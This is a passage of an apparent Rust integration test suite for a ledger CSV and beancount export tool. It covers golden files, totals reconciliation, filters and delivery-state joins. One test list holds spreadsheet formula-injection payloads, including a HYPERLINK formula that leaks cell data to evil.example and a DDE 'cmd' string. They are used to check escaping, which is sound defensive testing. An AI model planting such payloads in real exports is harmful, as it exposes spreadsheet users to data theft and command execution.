//! `ledgerline export` against a real nats-server: postings computed by the
//! engine from the golden fixtures, stored on LEDGER as the aggregator
//! stores them, with delivery records written here (so these tests need
//! neither the aggregator nor the dispatcher).
//!
//! `posted_at` is the server's timestamp, so the golden CSV holds
//! `<posted_at>` in its place; each real value is checked to be RFC 3339
//! UTC, within the test's run and non-decreasing before it is replaced.
//! `UPDATE_GOLDEN=1 cargo test --test it export` rewrites the golden file.

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};
use std::process::Output;
use std::str::FromStr;
use std::time::Duration;

use async_nats::jetstream;
use rust_decimal::Decimal;
use serde_json::{Value, json};
use time::OffsetDateTime;
use time::format_description::well_known::Rfc3339;

use ledgerline::config::Config;
use ledgerline::export::csv::{HEADER, unescape_text};
use ledgerline::export::delivery::fetch_order;
use ledgerline::export::{self, ExportOptions, JoinLimits};
use ledgerline::posting::{Posting, idempotency_key};
use ledgerline::records::DeliveryStatus;
use ledgerline::streams::{LEDGER_STREAM, subjects};

use crate::support::{self, engine, process};

fn root() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

/// The postings the engine makes of `events` under the registries of
/// `config_toml`, in event order then registry order.
fn engine_postings(config_toml: &str, events: &str) -> Vec<Posting> {
    let settings = Config::from_toml_with_env(config_toml, "config.toml", std::iter::empty())
        .unwrap()
        .validate()
        .unwrap();
    engine::postings_skipping_rejected(&settings, events)
}

/// Every golden case's postings, cases in name order. No (registry, order)
/// appears in two cases, so they share one LEDGER.
fn fixture_postings() -> Vec<Posting> {
    let mut dirs: Vec<PathBuf> = std::fs::read_dir(root().join("fixtures/golden"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|d| d.join("config.toml").exists())
        .collect();
    dirs.sort();
    let mut out = Vec::new();
    for d in dirs {
        let config = std::fs::read_to_string(d.join("config.toml")).unwrap();
        let events = std::fs::read_to_string(d.join("events.ndjson")).unwrap();
        out.extend(engine_postings(&config, &events));
    }
    let keys: BTreeSet<_> = out.iter().map(|p| p.idempotency_key).collect();
    assert_eq!(keys.len(), out.len(), "fixture postings collide");
    out
}

/// A posting as the aggregator stores it: the posting plus `source_seq`
/// (JSON, so fields other engineers add with defaults do not matter here).
fn stored(p: &Posting, source_seq: u64) -> Vec<u8> {
    let mut v = serde_json::to_value(p).unwrap();
    v["source_seq"] = source_seq.into();
    serde_json::to_vec(&v).unwrap()
}

/// Acks awaited in windows of this many publishes.
const PUBLISH_WINDOW: usize = 1024;

async fn publish_all(js: &jetstream::Context, msgs: impl IntoIterator<Item = (String, Vec<u8>)>) {
    let mut acks = Vec::with_capacity(PUBLISH_WINDOW);
    for (subject, payload) in msgs {
        acks.push(js.publish(subject, payload.into()).await.unwrap());
        if acks.len() == PUBLISH_WINDOW {
            for a in acks.drain(..) {
                a.await.unwrap();
            }
        }
    }
    for a in acks {
        a.await.unwrap();
    }
}

async fn publish_postings(js: &jetstream::Context, postings: &[Posting]) {
    publish_all(
        js,
        postings.iter().enumerate().map(|(i, p)| {
            (
                subjects::postings(&p.registry_id, p.order_id.as_str()),
                stored(p, i as u64 + 1),
            )
        }),
    )
    .await;
}

/// A delivery record of attempt `attempt` of posting `p`.
fn record(p: &Posting, attempt: u32, outcome: &str, status: Option<u16>, at: &str) -> Value {
    let mut v = json!({
        "registry_id": p.registry_id, "order_id": p.order_id, "seq": p.seq,
        "idempotency_key": p.idempotency_key, "attempt": attempt, "outcome": outcome,
        "duration_ms": 12, "at": at,
    });
    if let Some(s) = status {
        v["http_status"] = s.into();
    }
    if outcome != "delivered" {
        v["error"] = "receiver failed".into();
    }
    v
}

/// Delivery records for `postings`, as a FIFO dispatcher would leave them:
/// per (registry, order) in seq order, the i-th posting overall is
/// delivered at once (i % 5 = 0), delivered on the third attempt after a
/// 503 and a timeout (1), dead-lettered by a 422 (2), retrying after a 503
/// (3), or not tried yet (4); after one that is not delivered, the later
/// postings of the same order wait (pending).
fn deliveries(postings: &[Posting]) -> Vec<(String, Vec<u8>)> {
    let mut blocked: BTreeSet<(String, String)> = BTreeSet::new();
    let mut out = Vec::new();
    for (i, p) in postings.iter().enumerate() {
        let key = (p.registry_id.clone(), p.order_id.to_string());
        if blocked.contains(&key) {
            continue;
        }
        let at = |s: u32| format!("2026-11-22T12:{:02}:{:02}Z", i % 60, s);
        let records = match i % 5 {
            0 => vec![record(p, 1, "delivered", Some(200), &at(1))],
            1 => vec![
                record(p, 1, "retrying", Some(503), &at(1)),
                record(p, 2, "retrying", None, &at(6)),
                record(p, 3, "delivered", Some(201), &at(36)),
            ],
            2 => vec![record(p, 1, "dead", Some(422), &at(1))],
            3 => vec![record(p, 1, "retrying", Some(503), &at(1))],
            _ => vec![],
        };
        if i % 5 >= 2 {
            blocked.insert(key);
        }
        for r in records {
            out.push((
                subjects::deliveries(&p.registry_id, p.order_id.as_str()),
                serde_json::to_vec(&r).unwrap(),
            ));
        }
    }
    out
}

/// Runs `ledgerline export --nats-url <url> <args>`.
async fn cli_export(url: &str, args: &[&str]) -> Output {
    let mut cmd = process::ledgerline(&["export", "--nats-url", url]);
    cmd.args(args).env_remove("LEDGERLINE_NATS_URL");
    tokio::process::Command::from(cmd).output().await.unwrap()
}

/// Runs `ledgerline export` writing the CSV to `out` and the summary to
/// `summary`, and expects it to succeed.
async fn export_to_files(url: &str, out: &Path, summary: &Path) {
    let run = cli_export(
        url,
        &[
            "--out",
            out.to_str().unwrap(),
            "--summary",
            summary.to_str().unwrap(),
        ],
    )
    .await;
    assert!(run.status.success(), "{}", text(&run.stderr));
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

/// The CSV's records (header first), as a standard reader sees them.
fn read_csv(bytes: &[u8]) -> Vec<Vec<String>> {
    ::csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// LEDGER's last stream sequence now.
async fn last_sequence(nats: &support::Nats) -> u64 {
    nats.js
        .get_stream(LEDGER_STREAM)
        .await
        .unwrap()
        .info()
        .await
        .unwrap()
        .state
        .last_sequence
}

fn col(name: &str) -> usize {
    HEADER.iter().position(|h| *h == name).unwrap()
}

/// The CSV with `posted_at` replaced by `<posted_at>`, after checking each
/// value is RFC 3339 UTC, within [`since`, now] and non-decreasing.
fn normalise_posted_at(bytes: &[u8], since: OffsetDateTime) -> String {
    let now = OffsetDateTime::now_utc();
    let mut last = since;
    let mut w = ::csv::WriterBuilder::new()
        .terminator(::csv::Terminator::CRLF)
        .from_writer(Vec::new());
    for (i, mut r) in read_csv(bytes).into_iter().enumerate() {
        if i > 0 {
            let v = &r[col("posted_at")];
            assert!(v.ends_with('Z'), "{v} is not UTC");
            let t = OffsetDateTime::parse(v, &Rfc3339).unwrap();
            assert!(t >= last && t <= now, "{v} out of order or range");
            last = t;
            r[col("posted_at")] = "<posted_at>".into();
        }
        w.write_record(&r).unwrap();
    }
    String::from_utf8(w.into_inner().unwrap()).unwrap()
}

fn check_golden(name: &str, actual: &str) {
    let path = root().join("fixtures/export").join(name);
    if std::env::var_os("UPDATE_GOLDEN").is_some() {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, actual).unwrap();
        return;
    }
    let want = std::fs::read_to_string(&path)
        .unwrap_or_else(|e| panic!("{}: {e} (UPDATE_GOLDEN=1 writes it)", path.display()));
    if want != actual {
        for (i, (a, b)) in want.lines().zip(actual.lines()).enumerate() {
            assert_eq!(a, b, "{name}: first difference on line {}", i + 1);
        }
        assert_eq!(
            want.lines().count(),
            actual.lines().count(),
            "{name}: line count"
        );
        assert_eq!(want, actual, "{name}: line endings");
    }
}

fn tool(name: &str) -> PathBuf {
    let p = root().join(".tools/bin").join(name);
    assert!(p.exists(), "{} missing: run `make tools`", p.display());
    p
}

async fn fixtures_on_ledger(nats: &support::Nats) -> Vec<Posting> {
    let postings = fixture_postings();
    publish_postings(&nats.js, &postings).await;
    publish_all(&nats.js, deliveries(&postings)).await;
    postings
}

#[tokio::test]
async fn the_csv_of_the_golden_fixtures_matches_its_golden_file() {
    let since = OffsetDateTime::now_utc();
    let nats = support::nats().await;
    let postings = fixtures_on_ledger(&nats).await;
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("ledger.csv");
    let summary = dir.path().join("summary.txt");
    export_to_files(&nats.server.url(), &out, &summary).await;
    let csv = std::fs::read(&out).unwrap();
    check_golden("fixtures.csv", &normalise_posted_at(&csv, since));

    // One row per entry; the filtered registry is explained, not failed.
    let entries: usize = postings.iter().map(|p| p.entries.len()).sum();
    assert_eq!(read_csv(&csv).len(), entries + 1);
    let summary = std::fs::read_to_string(&summary).unwrap();
    assert!(summary.contains("OK: every posting balances"), "{summary}");
    let filtered = summary
        .lines()
        .find(|l| l.starts_with("revenue-only"))
        .unwrap();
    assert!(
        filtered.contains("explained: entry-type filter"),
        "{filtered}"
    );
    assert!(
        summary.contains(&format!(
            "export: {} postings, {entries} rows",
            postings.len()
        )),
        "{summary}"
    );
}

#[tokio::test]
async fn csv_totals_reconcile_with_the_postings_per_registry_and_currency() {
    let nats = support::nats().await;
    let postings = fixtures_on_ledger(&nats).await;
    let mut csv = Vec::new();
    let report = export::export(&nats.client, &ExportOptions::default(), &mut csv)
        .await
        .unwrap();

    // Independent totals: straight from the engine's postings.
    type Key = (String, String);
    let mut want: BTreeMap<Key, (Decimal, Decimal, u64)> = BTreeMap::new();
    for p in &postings {
        let Some(c) = p.currency else {
            assert!(p.entries.is_empty());
            continue;
        };
        let (d, cr) = p.debit_credit();
        let t = want
            .entry((p.registry_id.clone(), c.code().to_owned()))
            .or_default();
        t.0 += d;
        t.1 += cr;
        t.2 += p.entries.len() as u64;
    }
    // What the CSV says, read back with a CSV reader.
    let mut got: BTreeMap<Key, (Decimal, Decimal, u64)> = BTreeMap::new();
    for r in read_csv(&csv).iter().skip(1) {
        let t = got
            .entry((r[col("registry_id")].clone(), r[col("currency")].clone()))
            .or_default();
        t.0 += Decimal::from_str(&r[col("debit")]).unwrap();
        t.1 += Decimal::from_str(&r[col("credit")]).unwrap();
        t.2 += 1;
    }
    assert_eq!(got, want);
    // And the summary agrees with both.
    let mut from_summary: BTreeMap<Key, (Decimal, Decimal, u64)> = BTreeMap::new();
    for ((r, c), t) in &report.summary.totals {
        if let Some(c) = c {
            from_summary.insert(
                (r.clone(), c.code().to_owned()),
                (t.debit, t.credit, t.entries),
            );
        }
    }
    assert_eq!(from_summary, want);
    assert_eq!(report.summary.postings(), postings.len() as u64);
    assert_eq!(report.stats.postings, postings.len() as u64);
    assert!(report.summary.is_ok());
    // Balanced registries balance to the cent; only the filtered one does not.
    for ((r, c), (d, cr, _)) in &want {
        assert_eq!(d == cr, r != "revenue-only", "{r} {c}: {d} vs {cr}");
    }
}

/// Descriptions and ids that a spreadsheet would run, or that break naive
/// CSV: formulas, commas, quotes, line breaks, tabs, apostrophes, Unicode.
const HOSTILE_DESCRIPTIONS: [&str; 8] = [
    "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Click me\")",
    "Tickets, \"VIP\" section\nsecond line\r\nthird line",
    "-2+3",
    "+1 guest",
    "@SUM(A1:A9)",
    "'already quoted",
    "\ttabbed =1",
    "Ünïcødé € 日本 🎟",
];

fn hostile_postings() -> Vec<Posting> {
    let config = r#"
[[registry]]
id = "books"
url = "https://accounting.example/hooks"
group_by = ["currency", "channel", "product_id"]
ledger_codes = [{ entry_type = "revenue", code = "=1+1" }]
"#;
    let lines: Vec<Value> = HOSTILE_DESCRIPTIONS
        .iter()
        .enumerate()
        .map(|(i, d)| {
            let d = if d.contains(char::is_control) {
                format!("placeholder {i}")
            } else {
                d.to_string()
            };
            json!({
                "id": format!("l{i}"), "product_id": format!("+p{i}"), "option_id": "o",
                "unit_type": "adult", "description": d, "quantity": 1,
                "unit_price": "10.00", "discount": "0.00", "tax_rate": "0"
            })
        })
        .collect();
    let event = json!({
        "event_id": "=cmd|' /C calc'!A0", "type": "order.confirmed", "order_id": "-evil-1",
        "occurred_at": "2026-11-22T10:00:00Z",
        "order": { "version": 1, "currency": "EUR", "channel": "@web",
                   "prices_include_tax": false, "line_items": lines, "fees": [] }
    });
    let mut ps = engine_postings(config, &event.to_string());
    assert_eq!(ps.len(), 1);
    // The event parser refuses control characters in descriptions, so the
    // ones with line breaks and tabs are put into the stored posting
    // directly: the export must carry whatever LEDGER holds.
    for e in &mut ps[0].entries {
        if let Some(i) = e.key.description.strip_prefix("placeholder ") {
            std::sync::Arc::make_mut(&mut e.key).description =
                HOSTILE_DESCRIPTIONS[i.parse::<usize>().unwrap()].into();
        }
    }
    ps
}

#[tokio::test]
async fn hostile_descriptions_survive_a_round_trip_through_a_csv_reader() {
    let nats = support::nats().await;
    let postings = hostile_postings();
    publish_postings(&nats.js, &postings).await;
    let run = cli_export(&nats.server.url(), &["--out", "-"]).await;
    assert!(run.status.success(), "{}", text(&run.stderr));
    let rows = read_csv(&run.stdout);
    assert_eq!(rows[0], HEADER);
    let text_cols = [
        "registry_id",
        "order_id",
        "event_id",
        "ledger_code",
        "description",
        "channel",
        "product_id",
    ];
    let mut descriptions = BTreeSet::new();
    for r in &rows[1..] {
        assert_eq!(r.len(), HEADER.len());
        // Nothing a spreadsheet would evaluate.
        for c in text_cols {
            let v = &r[col(c)];
            assert!(
                !v.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{c} = {v:?} is not escaped"
            );
        }
        // Everything comes back exactly after removing the escape.
        assert_eq!(unescape_text(&r[col("order_id")]), "-evil-1");
        assert_eq!(unescape_text(&r[col("event_id")]), "=cmd|' /C calc'!A0");
        if r[col("entry_type")] == "revenue" {
            assert_eq!(unescape_text(&r[col("ledger_code")]), "=1+1");
            assert_eq!(unescape_text(&r[col("channel")]), "@web");
            assert!(unescape_text(&r[col("product_id")]).starts_with("+p"));
            descriptions.insert(unescape_text(&r[col("description")]).to_owned());
        }
        assert!(r[col("quantity")].parse::<i64>().is_ok());
    }
    let want: BTreeSet<String> = HOSTILE_DESCRIPTIONS.iter().map(|s| s.to_string()).collect();
    assert_eq!(descriptions, want);
    // RFC 4180: CRLF between records; the description's own line breaks are
    // inside a quoted field, so the record count is still one per entry.
    assert!(run.stdout.windows(2).any(|w| w == b"\r\n"));
    assert_eq!(rows.len(), postings[0].entries.len() + 1);
}

/// Runs the real `bean-check` on a file: passes or panics with its output.
fn bean_check(path: &Path) {
    let out = std::process::Command::new(tool("bean-check"))
        .arg(path)
        .output()
        .unwrap();
    assert!(
        out.status.success() && out.stdout.is_empty() && out.stderr.is_empty(),
        "bean-check failed:\n{}{}",
        text(&out.stdout),
        text(&out.stderr)
    );
}

#[tokio::test]
async fn the_beancount_export_passes_the_real_bean_check() {
    let nats = support::nats().await;
    let mut postings = fixtures_on_ledger(&nats).await;
    let hostile = hostile_postings();
    publish_postings(&nats.js, &hostile).await;
    postings.extend(hostile);
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("ledger.beancount");
    let run = cli_export(
        &nats.server.url(),
        &["--format", "beancount", "--out", out.to_str().unwrap()],
    )
    .await;
    assert!(run.status.success(), "{}", text(&run.stderr));
    bean_check(&out);

    // Beancount's own loader sees every posting as one transaction, the
    // hostile descriptions intact and every transaction balanced.
    let script = r#"
import json, sys
from beancount import loader
from beancount.core import data
entries, errors, _ = loader.load_file(sys.argv[1])
txns = [e for e in entries if isinstance(e, data.Transaction)]
print(json.dumps({
  "errors": len(errors),
  "ids": sorted(t.meta["posting_id"] for t in txns),
  "descriptions": sorted({p.meta.get("description", "") for t in txns for p in t.postings}),
  "unposted": sorted({p.account for t in txns for p in t.postings if p.account.startswith("Equity:")}),
}))
"#;
    let py = std::process::Command::new(tool("python"))
        .args(["-c", script])
        .arg(&out)
        .output()
        .unwrap();
    assert!(py.status.success(), "{}", text(&py.stderr));
    let v: Value = serde_json::from_slice(&py.stdout).unwrap();
    assert_eq!(v["errors"], 0);
    let mut ids: Vec<String> = postings
        .iter()
        .map(|p| p.idempotency_key.to_string())
        .collect();
    ids.sort();
    assert_eq!(v["ids"], json!(ids));
    let descriptions: Vec<String> = serde_json::from_value(v["descriptions"].clone()).unwrap();
    for d in HOSTILE_DESCRIPTIONS {
        assert!(descriptions.iter().any(|x| x == d), "{d:?} lost");
    }
    // The filtered registry's difference sits on its Unposted account.
    assert_eq!(v["unposted"], json!(["Equity:Revenue-only:Unposted"]));
}

#[tokio::test]
async fn an_unexplained_imbalance_fails_the_export_with_exit_1() {
    let nats = support::nats().await;
    let mut postings = fixture_postings();
    let bad = postings
        .iter_mut()
        .find(|p| !p.filtered && p.entries.len() >= 2)
        .unwrap();
    bad.entries[0].amount += Decimal::new(1, 2);
    let (registry, order, seq) = (bad.registry_id.clone(), bad.order_id.to_string(), bad.seq);
    publish_postings(&nats.js, &postings).await;

    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("ledger.csv");
    let run = cli_export(&nats.server.url(), &["--out", out.to_str().unwrap()]).await;
    assert_eq!(run.status.code(), Some(1), "{}", text(&run.stderr));
    let err = text(&run.stderr);
    assert!(
        err.contains(&format!("UNBALANCED: 1 posting is not filtered and not balanced (first: {registry}/{order}/{seq}, debit - credit = 0.01)")),
        "{err}"
    );
    assert!(err.contains("FAILED: 1 posting does not balance"), "{err}");
    // The file is still written in full for the auditor to look at.
    let entries: usize = postings.iter().map(|p| p.entries.len()).sum();
    assert_eq!(read_csv(&std::fs::read(&out).unwrap()).len(), entries + 1);

    // The beancount file stays loadable, the difference on Unexplained.
    let bean = dir.path().join("ledger.beancount");
    let run = cli_export(
        &nats.server.url(),
        &["--format", "beancount", "--out", bean.to_str().unwrap()],
    )
    .await;
    assert_eq!(run.status.code(), Some(1));
    bean_check(&bean);
    let text = std::fs::read_to_string(&bean).unwrap();
    assert!(text.contains("unexplained_imbalance: TRUE"));
}

#[tokio::test]
async fn registry_and_time_filters_select_exactly_their_postings() {
    let nats = support::nats().await;
    let postings = fixture_postings();
    let (first, second) = postings.split_at(postings.len() / 2);
    publish_postings(&nats.js, first).await;
    tokio::time::sleep(Duration::from_millis(50)).await;
    let mid = OffsetDateTime::now_utc();
    tokio::time::sleep(Duration::from_millis(50)).await;
    publish_postings(&nats.js, second).await;
    let url_string = nats.server.url();
    let url = url_string.as_str();

    let ids = |out: &Output| -> BTreeSet<String> {
        assert!(out.status.success(), "{}", text(&out.stderr));
        read_csv(&out.stdout)[1..]
            .iter()
            .map(|r| r[col("posting_id")].clone())
            .collect()
    };
    let with_rows = |ps: &[Posting]| -> BTreeSet<String> {
        ps.iter()
            .filter(|p| !p.entries.is_empty())
            .map(|p| p.idempotency_key.to_string())
            .collect()
    };
    let mid_s = mid.format(&Rfc3339).unwrap();
    assert_eq!(
        ids(&cli_export(url, &["--from", &mid_s]).await),
        with_rows(second)
    );
    assert_eq!(
        ids(&cli_export(url, &["--to", &mid_s]).await),
        with_rows(first)
    );
    let only: Vec<Posting> = postings
        .iter()
        .filter(|p| p.registry_id == "coded" || p.registry_id == "detail")
        .cloned()
        .collect();
    assert!(!only.is_empty());
    assert_eq!(
        ids(&cli_export(url, &["--registry", "coded", "--registry", "detail"]).await),
        with_rows(&only)
    );
    assert_eq!(
        ids(&cli_export(url, &["--registry", "coded,detail"]).await),
        with_rows(&only)
    );
    // Both bounds, and an empty window: a header and nothing else.
    let run = cli_export(url, &["--from", &mid_s, "--to", &mid_s]).await;
    assert_eq!(run.status.code(), Some(2), "from must be before to");
    let run = cli_export(url, &["--to", "2000-01-01T00:00:00Z"]).await;
    assert_eq!(read_csv(&run.stdout).len(), 1);
    // Bad input is a usage error, named.
    let run = cli_export(url, &["--registry", "a.>"]).await;
    assert_eq!(run.status.code(), Some(2));
    assert!(text(&run.stderr).contains("is not a registry id"));
    let run = cli_export(url, &["--from", "yesterday"]).await;
    assert_eq!(run.status.code(), Some(2));
}

#[tokio::test]
async fn delivery_state_is_read_up_to_the_snapshot_and_across_pages() {
    let nats = support::nats().await;
    let postings = engine_postings(
        &std::fs::read_to_string(root().join("fixtures/golden/update_delta/config.toml")).unwrap(),
        &std::fs::read_to_string(root().join("fixtures/golden/update_delta/events.ndjson"))
            .unwrap(),
    );
    let (p1, p2) = (&postings[0], &postings[1]);
    assert_eq!((p1.seq, p2.seq), (1, 2));
    publish_postings(&nats.js, &postings[..2]).await;
    // 600 attempts (more than one Direct Get page) for posting 1.
    let mut msgs = Vec::new();
    for a in 1..=599u32 {
        msgs.push(record(p1, a, "retrying", Some(503), "2026-11-22T12:00:00Z"));
    }
    msgs.push(record(
        p1,
        600,
        "delivered",
        Some(200),
        "2026-11-22T13:00:00Z",
    ));
    let subject = subjects::deliveries(&p1.registry_id, p1.order_id.as_str());
    publish_all(
        &nats.js,
        msgs.iter()
            .map(|m| (subject.clone(), serde_json::to_vec(m).unwrap())),
    )
    .await;
    let snapshot = last_sequence(&nats).await;
    // Posting 2 is dead-lettered after the snapshot.
    publish_all(
        &nats.js,
        [(
            subject.clone(),
            serde_json::to_vec(&record(p2, 1, "dead", Some(422), "2026-11-22T13:01:00Z")).unwrap(),
        )],
    )
    .await;

    let (r, o) = (p1.registry_id.as_str(), p1.order_id.as_str());
    let at_snapshot = fetch_order(&nats.client, r, o, snapshot).await.unwrap();
    let one = at_snapshot.get(1);
    assert_eq!(one.status, DeliveryStatus::Delivered);
    assert_eq!(one.attempts, 600);
    assert_eq!(one.http_status, Some(200));
    assert_eq!(
        one.delivered_at,
        Some(OffsetDateTime::parse("2026-11-22T13:00:00Z", &Rfc3339).unwrap())
    );
    assert_eq!(at_snapshot.get(2).status, DeliveryStatus::Pending);
    let now = fetch_order(&nats.client, r, o, u64::MAX).await.unwrap();
    assert_eq!(now.get(2).status, DeliveryStatus::Dead);
    assert_eq!(now.get(2).http_status, Some(422));
    // An order without any record: pending, without an error.
    let none = fetch_order(&nats.client, r, "no-such-order", u64::MAX)
        .await
        .unwrap();
    assert_eq!(none.get(1).status, DeliveryStatus::Pending);

    // Through the CSV: the delivery columns of both postings.
    let run = cli_export(&nats.server.url(), &["--out", "-"]).await;
    let rows = read_csv(&run.stdout);
    let of = |seq: &str| rows[1..].iter().find(|r| r[col("seq")] == seq).unwrap();
    let delivery_columns = |seq: &str| {
        let row = of(seq);
        ["delivery_status", "delivered_at", "attempts", "http_status"].map(|c| row[col(c)].clone())
    };
    assert_eq!(
        delivery_columns("1"),
        ["delivered", "2026-11-22T13:00:00Z", "600", "200"]
    );
    assert_eq!(delivery_columns("2"), ["dead", "", "1", "422"]);
}

#[tokio::test]
async fn an_empty_ledger_exports_a_header_and_a_clean_summary() {
    let nats = support::nats().await;
    let run = cli_export(&nats.server.url(), &[]).await;
    assert!(run.status.success(), "{}", text(&run.stderr));
    assert_eq!(text(&run.stdout), format!("{}\r\n", HEADER.join(",")));
    assert!(text(&run.stderr).contains("(no postings)"));
}

/// `n` synthetic postings of registry `bulk`, orders `bulk-<start + i>`,
/// cloned from a real 9-entry posting, with one delivery record each.
fn synthetic(start: usize, n: usize) -> Vec<(String, Vec<u8>)> {
    let template = engine_postings(
        &std::fs::read_to_string(root().join("fixtures/golden/tax_rates/config.toml")).unwrap(),
        &std::fs::read_to_string(root().join("fixtures/golden/tax_rates/events.ndjson")).unwrap(),
    )
    .remove(0);
    let mut postings = Vec::with_capacity(n);
    let mut records = Vec::with_capacity(n);
    for i in start..start + n {
        let mut p = template.clone();
        p.registry_id = "bulk".into();
        p.order_id = ledgerline::events::OrderId::parse(&format!("bulk-{i:07}")).unwrap();
        p.idempotency_key = idempotency_key("bulk", p.order_id.as_str(), 1);
        records.push((
            subjects::deliveries("bulk", p.order_id.as_str()),
            serde_json::to_vec(&record(
                &p,
                1,
                "delivered",
                Some(200),
                "2026-11-22T12:00:00Z",
            ))
            .unwrap(),
        ));
        postings.push((
            subjects::postings("bulk", p.order_id.as_str()),
            stored(&p, i as u64 + 1),
        ));
    }
    postings.extend(records);
    postings
}

/// Exports everything to a file; returns (peak RSS in MiB, postings/s, rows).
async fn measured_export(url: &str, dir: &Path) -> (f64, u64, usize) {
    let out = dir.join("bulk.csv");
    let summary = dir.join("bulk.summary");
    export_to_files(url, &out, &summary).await;
    let s = std::fs::read_to_string(&summary).unwrap();
    let first = s.lines().next().unwrap();
    let num_before = |marker: &str| -> &str {
        first
            .split(marker)
            .next()
            .unwrap()
            .rsplit([' ', '('])
            .next()
            .unwrap()
    };
    let rate: u64 = num_before(" postings/s").parse().unwrap();
    let rss: f64 = first
        .split("peak RSS ")
        .nth(1)
        .and_then(|r| r.trim_end_matches(" MiB").parse().ok())
        .unwrap_or_else(|| panic!("no peak RSS in {first:?}"));
    let rows = std::fs::read(&out)
        .unwrap()
        .windows(2)
        .filter(|w| w == b"\r\n")
        .count();
    eprintln!("{first}");
    (rss, rate, rows)
}

/// Rows per synthetic posting (its entries).
const SYNTHETIC_ROWS: usize = 9;

#[tokio::test]
async fn export_memory_does_not_grow_with_the_number_of_postings() {
    // Both sizes fill the join's window (8 MiB of postings, here all
    // stored before any of their records), so both export runs hold all
    // they may and read most orders on their own.
    const SMALL: usize = 6_000;
    const LARGE: usize = 30_000;
    let nats = support::nats().await;
    let dir = tempfile::tempdir().unwrap();
    publish_all(&nats.js, synthetic(0, SMALL)).await;
    let (small_rss, _, rows) = measured_export(&nats.server.url(), dir.path()).await;
    assert_eq!(rows, SMALL * SYNTHETIC_ROWS + 1);
    let more = synthetic(SMALL, LARGE - SMALL);
    // What the added postings take as stored JSON (the first half of
    // `more`; the rest are their delivery records): holding them would
    // take more than that in memory.
    let added_mib = more[..LARGE - SMALL]
        .iter()
        .map(|(_, payload)| payload.len())
        .sum::<usize>() as f64
        / (1024.0 * 1024.0);
    publish_all(&nats.js, more).await;
    let (large_rss, _, rows) = measured_export(&nats.server.url(), dir.path()).await;
    assert_eq!(rows, LARGE * SYNTHETIC_ROWS + 1);
    // Five times the postings, about the same memory: everything held is
    // bounded by constants, reached already by the smaller export. The
    // bound is a quarter of the added postings' stored size (≈ 70 MiB; an
    // export holding a quarter of them would fail it): the peak varies by
    // a few MiB with timing (up to +15 MiB seen on a loaded 2-core
    // machine, +1.5 to +7 idle), which a fixed 8 MiB did not allow for.
    assert!(
        added_mib > 60.0,
        "the added postings are large enough to show growth ({added_mib:.1} MiB)"
    );
    assert!(
        large_rss - small_rss < added_mib / 4.0,
        "peak RSS {small_rss:.1} MiB at {SMALL} postings, {large_rss:.1} MiB at {LARGE}; \
         the {} added postings are {added_mib:.1} MiB stored",
        LARGE - SMALL
    );
}

/// The CSV of an in-process export holding at most `limits` while joining.
async fn export_csv_within(
    nats: &support::Nats,
    limits: JoinLimits,
) -> (Vec<u8>, export::ExportReport) {
    let mut csv = Vec::new();
    let report = export::export_within(&nats.client, &ExportOptions::default(), limits, &mut csv)
        .await
        .unwrap();
    (csv, report)
}

/// Checks every row's delivery columns against the order's own read of its
/// records up to the snapshot (the per-order Direct Get, independent of
/// the join); returns the rows by posting id.
async fn check_rows_against_order_reads(
    nats: &support::Nats,
    csv: &[u8],
    snapshot: u64,
) -> BTreeMap<String, [String; 4]> {
    let mut by_order = BTreeMap::new();
    let mut rows = BTreeMap::new();
    for r in &read_csv(csv)[1..] {
        let (reg, order) = (
            unescape_text(&r[col("registry_id")]).to_owned(),
            unescape_text(&r[col("order_id")]).to_owned(),
        );
        let key = (reg.clone(), order.clone());
        if !by_order.contains_key(&key) {
            let d = fetch_order(&nats.client, &reg, &order, snapshot)
                .await
                .unwrap();
            by_order.insert(key.clone(), d);
        }
        let want = by_order[&key].get(r[col("seq")].parse().unwrap());
        let got = ["delivery_status", "delivered_at", "attempts", "http_status"]
            .map(|c| r[col(c)].clone());
        let want_cols = [
            want.status.as_str().to_owned(),
            want.delivered_at.map(export::timestamp).unwrap_or_default(),
            want.attempts.to_string(),
            want.http_status.map(|s| s.to_string()).unwrap_or_default(),
        ];
        assert_eq!(got, want_cols, "{reg}/{order} posting {}", r[col("seq")]);
        rows.insert(r[col("posting_id")].clone(), got);
    }
    rows
}

/// The subject and stored JSON of posting 1 of order `order` of registry
/// `bulk` (a real 9-entry posting, renamed), and the posting.
fn bulk_posting(order: &str) -> (String, Vec<u8>, Posting) {
    let (subject, payload) = synthetic(0, 1).remove(0);
    let mut p: Posting = serde_json::from_slice::<ledgerline::records::StoredPosting>(&payload)
        .unwrap()
        .posting;
    p.order_id = ledgerline::events::OrderId::parse(order).unwrap();
    p.idempotency_key = idempotency_key("bulk", order, 1);
    assert!(subject.starts_with("ledger.postings.bulk."));
    (subjects::postings("bulk", order), stored(&p, 1), p)
}

fn record_msg(p: &Posting, attempt: u32, outcome: &str, status: Option<u16>) -> (String, Vec<u8>) {
    (
        subjects::deliveries(&p.registry_id, p.order_id.as_str()),
        serde_json::to_vec(&record(p, attempt, outcome, status, "2026-11-22T12:00:00Z")).unwrap(),
    )
}

/// Publishes a posting of `order` and, right after it, its delivery
/// answered `status`; returns the posting.
async fn delivered_at_once(nats: &support::Nats, order: &str, status: u16) -> Posting {
    let (subject, payload, posting) = bulk_posting(order);
    let record = record_msg(&posting, 1, "delivered", Some(status));
    publish_all(&nats.js, [(subject, payload), record]).await;
    posting
}

#[tokio::test]
async fn the_join_gives_every_posting_its_orders_state_whatever_the_window() {
    let nats = support::nats().await;
    // The fixtures (every posting first, then every record), then an order
    // dead-lettered, many other orders, and the same order redelivered far
    // later: its records lie beyond any small window.
    fixtures_on_ledger(&nats).await;
    let (subject, payload, redone) = bulk_posting("redo-1");
    publish_all(&nats.js, [(subject, payload)]).await;
    publish_all(&nats.js, [record_msg(&redone, 1, "dead", Some(422))]).await;
    // An order delivered at once, and sent again far later (a crash lost
